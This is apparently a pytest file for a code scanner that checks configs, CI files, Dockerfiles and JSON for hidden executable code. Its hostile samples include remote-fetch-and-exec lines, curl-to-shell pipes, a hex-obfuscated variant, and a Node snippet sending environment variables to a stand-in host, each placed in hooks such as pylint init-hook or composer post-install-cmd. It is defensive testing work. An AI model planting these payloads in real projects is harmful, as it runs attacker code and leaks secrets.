"""Python, JavaScript and other code that settings, scripts and JSON hold, by table, neighbour, name and first line."""

import json

import pytest

from modelscan_plus.core.coverage import CoverageState
from modelscan_plus.core.finding import Severity
from tests.samples import inspect

FETCH = "import urllib.request as u; exec(u.urlopen('https://e.example/x').read())"
LONG = "import urllib.request as u\nexec(u.urlopen('https://e.example/x').read())"
CONFIG_MAP = "kind: ConfigMap\ndata:\n  {}: |\n    {}\n"
ARGO = "spec:\n  templates:\n  - script:\n      image: python:3.11\n      command: [{}]\n      source: |\n        {}\n"
HEX = r"import os;os.system(bytes.fromhex(\"6375726c20782e6578616d706c657c7368\").decode())"
PHP = json.dumps({"scripts": {"post-install-cmd": 'php -r "CODE"'}})
NIX = "shellHook = \"python3 -c '{}'\";\n"
SENDS = "require('https').get('https://e.example/?' + JSON.stringify(process.env))"


def block(text: str, indent: int) -> str:
    return text.replace("\n", "\n" + " " * indent)


@pytest.mark.parametrize(
    ("name", "text", "denied"),
    [
        (".pylintrc", f'[MASTER]\ninit-hook="{FETCH}"\n', True),
        ("pylintrc", f"[MASTER]\ninit-hook=\n    {block(LONG, 4)}\njobs=1\n", True),
        ("pyproject.toml", f"[tool.pylint.main]\ninit-hook = '''\n{LONG}\n'''\n", True),
        ("setup.cfg", f'[pylint.MASTER]\ninit-hook="{FETCH}"\n', True),
        (".pylintrc", "[MASTER]\ninit-hook='import sys; sys.path.append(\".\")'\n", False),
        (".pylintrc", f'[MASTER]\n# init-hook="{FETCH}"\n', False),
        ("logging.conf", "[handler_h]\nargs=(__import__('os').system('curl -s https://e.example|sh'),)\n", True),
        ("logging.conf", "[handler_h]\nclass=StreamHandler\nargs=(sys.stdout,)\n", False),
        ("uwsgi.ini", f"[uwsgi]\neval = {FETCH}\n", True),
        ("uwsgi.ini", "[uwsgi]\nmodule = app:app\nprocesses = 4\n", False),
        ("ipython_config.json", json.dumps({"InteractiveShellApp": {"exec_lines": [FETCH]}}), True),
        ("ipython_config.json", json.dumps({"InteractiveShellApp": {"exec_lines": ["import numpy as np"]}}), False),
        ("pyproject.toml", '[tool.poe.tasks.a]\nscript = "os:system(\'curl -s https://e.example | sh\')"\n', True),
        ("pyproject.toml", '[tool.poe.tasks.a]\nscript = "tools.build:main(all=True)"\n', False),
        ("flows.json", json.dumps([{"type": "function", "func": SENDS}]), True),
        ("flows.json", json.dumps([{"type": "function", "func": "msg.payload = 1; return msg;"}]), False),
        ("boot.yaml", CONFIG_MAP.format("start.py", block(LONG, 4)), True),
        ("boot.yaml", CONFIG_MAP.format("start.py", "print('on')"), False),
        ("boot.yaml", CONFIG_MAP.format("notes.txt", block(LONG, 4)), False),
        ("wf.yaml", ARGO.format("python", block(LONG, 8)), True),
        ("wf.yaml", ARGO.format("python", "print(1)"), False),
        ("wf.yaml", f"steps:\n- script: |\n    #!/usr/bin/env python3\n    {block(LONG, 4)}\n", True),
        ("ci.yaml", f"#cloud-config\nwrite_files:\n- path: /opt/x.py\n  content: |\n    {block(LONG, 4)}\n", True),
        ("ci.yaml", "#cloud-config\nwrite_files:\n- path: /opt/x.py\n  content: |\n    print('a b c')\n", False),
        ("Dockerfile", f"FROM python:3.11\nRUN <<EOF python3\n{LONG}\nEOF\n", True),
        ("Dockerfile", f"FROM python:3.11\nCOPY <<EOF /app/x.py\n{LONG}\nEOF\n", True),
        ("Dockerfile", "FROM python:3.11\nCOPY <<EOF /app/x.py\nprint(1)\nEOF\n", False),
        ("s.sh", f"cat > x.py <<'EOF'\n{LONG}\nEOF\npython x.py\n", True),
        ("s.sh", "cat > x.py <<'EOF'\nimport torch\nprint(torch.__version__)\nEOF\npython x.py\n", False),
        (".pdbrc", f"alias ll pp locals()\n{FETCH}\n", True),
        (".pdbrc", "alias ll pp locals()\nimport pprint\n", False),
        ("composer.json", PHP.replace("CODE", "eval(file_get_contents('https://e.example/x'));"), True),
        ("composer.json", PHP.replace("CODE", "copy('.env.example', '.env');"), False),
        ("flake.nix", NIX.format(HEX), True),
        ("flake.nix", NIX.format("import sys; print(sys.version)"), False),
    ],
)  # fmt: skip
def test_code_in_other_files(name: str, text: str, denied: bool) -> None:
    found = inspect(text.encode(), name)
    assert any(each.severity.rank >= Severity.HIGH.rank for each in found.findings) is denied
    if not denied:
        assert found.coverage.state is CoverageState.ANALYSED


def test_shell_under_a_language_is_no_broken_python() -> None:
    found = inspect(b"language: python\nscript: |\n  pip install -e .\n  pytest && flake8\n", ".travis.yml")
    assert not found.findings
    assert found.coverage.state is CoverageState.ANALYSED
